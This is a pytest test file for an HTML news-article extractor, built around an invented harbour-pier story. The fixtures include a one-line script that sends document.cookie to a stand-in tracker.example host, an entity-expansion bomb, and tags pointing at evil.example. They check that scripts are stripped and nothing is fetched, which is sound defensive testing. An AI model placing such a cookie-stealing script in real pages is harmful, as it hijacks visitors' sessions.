"""Tests for presstrace.sources.html (no network; fixtures written for these tests)."""

from __future__ import annotations

import dataclasses
import gzip

import pytest

from presstrace.sources.html import HtmlExtract, NoArticleError, extract_html

# An invented article page with the furniture a real one has: navigation, a
# script that must never run, a byline, a comment section and a footer.
PARAGRAPHS = [
    "The harbour commission of Eastbrook voted on Tuesday to rebuild the old north pier, "
    "a structure that has stood unused since the storm of two winters ago damaged its pilings.",
    "Commission chair Marta Oyelaran said the work would begin in the spring and take about "
    "eighteen months, with the cost shared between the town and the regional ferry company.",
    "Local fishing crews, who have moored at the crowded south quay since the pier closed, "
    "welcomed the decision but asked for berths to be set aside for small boats during the works.",
    "A public meeting on the detailed plans is due to take place at the town library next month, "
    "where residents will be able to see the drawings and put questions to the engineers.",
]

ARTICLE_PAGE = f"""<!DOCTYPE html>
<html lang="en-GB">
<head>
  <meta charset="utf-8">
  <title>Eastbrook to rebuild its north pier | The Eastbrook Courier</title>
  <meta property="og:title" content="Eastbrook to rebuild its north pier">
  <meta property="og:site_name" content="The Eastbrook Courier">
  <meta name="author" content="Jane Q. Fenwick">
  <meta property="article:published_time" content="2021-03-09T08:15:00+00:00">
  <meta property="article:modified_time" content="2021-03-11T17:40:00+00:00">
  <link rel="canonical" href="https://courier.example/news/2021/03/eastbrook-pier">
  <script>window.location = "https://tracker.example/steal?c=" + document.cookie;</script>
</head>
<body>
  <nav class="main-nav"><ul>
    <li><a href="/">Home</a></li><li><a href="/news">News</a></li>
    <li><a href="/sport">Sport</a></li><li><a href="/weather">Weather</a></li>
  </ul></nav>
  <main>
    <article>
      <h1>Eastbrook to rebuild its north pier</h1>
      <p class="byline">By Jane Q. Fenwick</p>
      {"".join(f"<p>{p}</p>" for p in PARAGRAPHS)}
    </article>
    <section id="comments" class="comments">
      <h2>Comments</h2>
      <div class="comment"><p>PIERFAN77 wrote: finally, about time somebody did
        something about that eyesore!!!</p></div>
      <div class="comment"><p>quaywatcher wrote: 12 upvotes. my taxes are paying for
        this nonsense again</p></div>
    </section>
  </main>
  <footer><p>Copyright 2021 The Eastbrook Courier. All rights reserved.
    Privacy policy. Contact us.</p></footer>
</body>
</html>
"""


@pytest.fixture(scope="module")
def article() -> HtmlExtract:
    return extract_html(ARTICLE_PAGE.encode("utf-8"), url="https://courier.example/p?id=1")


def test_body_is_kept_as_paragraphs(article: HtmlExtract) -> None:
    for paragraph in PARAGRAPHS:
        assert paragraph in article.text
    # Paragraphs are separated by a blank line, in page order.
    positions = [article.text.index(p) for p in PARAGRAPHS]
    assert positions == sorted(positions)
    assert "\n\n".join(PARAGRAPHS) in article.text


def test_comments_nav_footer_and_script_are_left_out(article: HtmlExtract) -> None:
    for furniture in (
        "PIERFAN77",
        "quaywatcher",
        "upvotes",
        "All rights reserved",
        "Weather",
        "document.cookie",
    ):
        assert furniture not in article.text


def test_metadata_from_meta_tags(article: HtmlExtract) -> None:
    assert article.title == "Eastbrook to rebuild its north pier"
    assert article.byline == "Jane Q. Fenwick"  # full stop kept, as written
    assert article.outlet == "The Eastbrook Courier"
    assert article.published == "2021-03-09"  # first publication, not the update
    assert article.url == "https://courier.example/news/2021/03/eastbrook-pier"  # canonical wins
    assert article.language == "en"
    assert article.extractor.startswith("trafilatura ")
    assert article.extractor.split()[1][0].isdigit()


def test_result_is_frozen(article: HtmlExtract) -> None:
    with pytest.raises(dataclasses.FrozenInstanceError):
        article.text = "changed"  # type: ignore[misc]


def test_str_input_and_same_result_twice() -> None:
    # Same page twice: no hidden de-duplication state may eat the second one.
    first = extract_html(ARTICLE_PAGE)
    second = extract_html(ARTICLE_PAGE)
    assert first.text == second.text
    assert PARAGRAPHS[0] in first.text
    assert first.url == "https://courier.example/news/2021/03/eastbrook-pier"


def test_given_url_used_without_canonical_and_never_fetched() -> None:
    page = ARTICLE_PAGE.replace(
        '<link rel="canonical" href="https://courier.example/news/2021/03/eastbrook-pier">', ""
    )
    result = extract_html(page, url="https://courier.example/p?id=1")
    assert result.url == "https://courier.example/p?id=1"


def test_legacy_encoding_bytes_are_decoded() -> None:
    page = ARTICLE_PAGE.replace('<meta charset="utf-8">', '<meta charset="iso-8859-1">').replace(
        "Marta Oyelaran", "Marta Oyélarán"
    )
    result = extract_html(page.encode("iso-8859-1"))
    assert "Marta Oyélarán said" in result.text


def test_gzip_bytes_are_accepted() -> None:
    result = extract_html(gzip.compress(ARTICLE_PAGE.encode("utf-8")))
    assert PARAGRAPHS[1] in result.text


def test_several_authors_joined_with_semicolons() -> None:
    page = ARTICLE_PAGE.replace(
        '<meta name="author" content="Jane Q. Fenwick">',
        '<meta name="author" content="Jane Q. Fenwick, Tomás Reyes">',
    )
    assert extract_html(page).byline == "Jane Q. Fenwick; Tomás Reyes"


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n" + bytes(range(256)) * 4, "PDF"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "PNG"),
        (bytes(range(256)) * 8, "not HTML"),
        (b'{"headline": "not a page", "body": "json"}', "not HTML"),
        (
            b"Just some plain text that somebody saved with an .html name.\n\n" * 20,
            "not HTML",
        ),
    ],
)
def test_non_html_raises(data: bytes, fragment: str) -> None:
    with pytest.raises(NoArticleError) as info:
        extract_html(data)
    assert fragment in str(info.value)
    assert isinstance(info.value, ValueError)
    assert info.value.reason == str(info.value)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        "   \n  ",
        "<html><head><title>Nothing</title></head><body></body></html>",
        b"<!DOCTYPE html><html><head></head><body><div id='app'></div>"
        b"<script src='/bundle.js'></script></body></html>",
    ],
)
def test_empty_or_script_only_page_raises(data: bytes | str) -> None:
    with pytest.raises(NoArticleError):
        extract_html(data)


def test_index_page_raises_with_explanation() -> None:
    links = "".join(f'<li><a href="/story/{i}">Story {i}</a></li>' for i in range(40))
    page = f"<html><head><title>Home</title></head><body><nav><ul>{links}</ul></nav></body></html>"
    with pytest.raises(NoArticleError, match="no article text"):
        extract_html(page)


HOSTILE_PAGES = [
    # Unclosed and misnested tags, stray script end tags, an unterminated comment.
    "<html><body><p>" + "<div><span><b>" * 3000 + PARAGRAPHS[0] + "</script></p><!-- never closed",
    # Scripts everywhere, including one posing as the article body.
    "<html><head><script>while(true){}</script></head><body>"
    + "".join(f"<script>alert({i})</script><p>{p}</p>" for i, p in enumerate(PARAGRAPHS))
    + "<script>document.write('<p>injected</p>')</script></body></html>",
    # Entity bombs, NULs and control characters, a huge attribute.
    "<!DOCTYPE html [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;'>]><html><body>"
    + "&b;" * 1000
    + "\x00\x01\x02<p title='"
    + "x" * 200_000
    + f"'>{PARAGRAPHS[1]}</p></body></html>",
    # Remote resources that must never be fetched.
    '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<link rel="import" href="https://evil.example/x.html"><base href="https://evil.example/"></head>'
    f'<body><iframe src="https://evil.example/"></iframe><img src="https://evil.example/p.gif"><p>{PARAGRAPHS[2]}</p>'
    f"<p>{PARAGRAPHS[3]}</p></body></html>",
    # A page whose whole text looks like a URL (htmldate would download such a str).
    "https://evil.example/article",
]


@pytest.mark.parametrize("page", HOSTILE_PAGES)
def test_hostile_pages_do_not_crash(page: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("extract_html tried to open a network connection")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    for data in (page, page.encode("utf-8", "surrogatepass")):
        try:
            result = extract_html(data)
        except NoArticleError:
            continue
        assert isinstance(result.text, str) and result.text
        assert "alert(" not in result.text and "while(true)" not in result.text
        assert "injected" not in result.text


def test_wrong_type_is_a_type_error() -> None:
    with pytest.raises(TypeError):
        extract_html(12345)  # type: ignore[arg-type]
